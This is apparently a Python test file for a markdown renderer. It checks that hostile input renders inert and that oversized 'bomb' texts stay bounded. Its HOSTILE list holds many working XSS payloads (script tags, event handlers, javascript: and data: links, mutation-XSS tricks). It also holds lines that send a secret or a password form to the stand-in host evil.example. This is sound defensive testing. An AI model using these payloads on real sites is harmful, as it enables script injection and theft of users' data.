"""Text becomes markup in one place, and nothing in it can act."""

import re

import pytest

from comparisons.web import markdown
from comparisons.web.markdown import MOST_HTML, TAGS, rendered

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</article></main><button data-choose>Choose</button>",
    "![pixel](https://evil.example/?q=secret)",
    "![a][b]\n\n[b]: https://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[a](//evil.example)",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:1) | d |",
    "# <script>alert(1)</script>",
    "> <base href=https://evil.example>",
    "1. <meta http-equiv=refresh content=0;url=https://evil.example>",
    "<object data=https://evil.example></object><embed src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div id=dock name=point>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    '[t](https://ok.example "onmouseover=alert(1)")',
    "<x onclick=alert(1)>y</x>",
    "[Choose B](/sign-out/)",
    "[Choose B](choice?point=8)",
    "[Choose B](\\\\evil.example)",
    "**<b onmouseover=alert(1)>bold</b>**",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_renders_inert(text):
    html = str(rendered(text))

    tags = {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", html)}
    attributes = {name for tag in re.findall(r"<[a-zA-Z][^>]*>", html) for name in _names(tag)}
    links = re.findall(r'href="([^"]*)"', html)
    assert tags <= TAGS
    assert attributes <= {"href", "rel", "start"}
    assert all(link.startswith(("https://", "http://")) for link in links)


def _names(tag: str) -> list[str]:
    return re.findall(r"\s([a-zA-Z-]+)(?==|\s|>|/)", re.sub(r'"[^"]*"', '""', tag))


def test_lists_tables_code_and_links_survive():
    html = str(
        rendered(
            "**b** `c`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```\nx < y\n```\n\n[site](https://ok.example)"
        )
    )

    assert "<strong>b</strong> <code>c</code>" in html
    assert "<li>one</li>" in html
    assert "<td>1</td>" in html
    assert "x &lt; y" in html
    assert 'href="https://ok.example" rel="noopener noreferrer nofollow"' in html


def test_headings_stay_below_the_pages_own():
    assert str(rendered("# Big\n\n- # in a list")).count("<h4>") == 2


def test_line_breaks_are_kept_and_length_is_bounded():
    assert "one<br>" in str(rendered("one\ntwo"))
    assert len(str(rendered("x" * 500_000))) < 101_000


@pytest.mark.parametrize(
    "bomb",
    [
        "[a]: /" + "u" * 50_000 + "\n\n" + "[a]" * 16_000,
        "[a]: https://ok.example/" + "u" * 10_000 + "\n\n" + "[a] " * 2_500,
        "[" * 100_000, "[a](" * 25_000, "![a](" * 20_000, ">" * 100_000, "*a " * 33_000,
        "**_~~" * 20_000, "`" * 100_000, "|a" * 25_000 + "\n" + "|-" * 25_000,
        "|a|b|\n|-|-|\n" + "|1|2|\n" * 16_000, "- " * 50_000, "1. a\n" * 20_000,
        "a" + "\u0301" * 99_999, "\u202e" * 100_000,
    ],
    ids=range(15),
)  # fmt: skip
def test_no_text_grows_beyond_what_a_page_can_carry(bomb):
    assert len(bomb) <= 100_100

    assert len(rendered(bomb)) < 7 * len(bomb)


@pytest.mark.parametrize(
    "bomb",
    ["-\n+\n" * 25_000, (">" * 18 + "\n\n") * 5_000, ">\n-\n" * 25_000, "<http://a>" * 10_000],
    ids=("lists", "quotes", "quotes and lists", "links"),
)
def test_a_text_that_grows_too_much_is_shown_as_it_was_written(bomb):
    html = rendered(bomb)

    plain = bomb.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert str(html) == "<p>" + plain.replace("\n", "<br>\n") + "</p>"


def test_a_long_text_of_the_usual_kind_becomes_markup():
    text = "# Title\n\nSome *words*, a list:\n\n- one\n- `two`\n\n" * 400

    html = rendered(text)

    assert html.count("<li>") == 800
    assert len(html) < MOST_HTML


def test_a_text_is_rendered_once_for_each_height_of_its_headings(monkeypatch):
    made = []
    parse = markdown._parser.parse
    monkeypatch.setattr(markdown._parser, "parse", lambda text: made.append(text) or parse(text))
    text = "# Shown often, never before"

    pages = [str(rendered(text, top_heading=top)) for top in (2, 3, 2, 3, 2)]

    assert made == [text, text]
    assert pages == [f"<h{top}>Shown often, never before</h{top}>\n" for top in (2, 3, 2, 3, 2)]
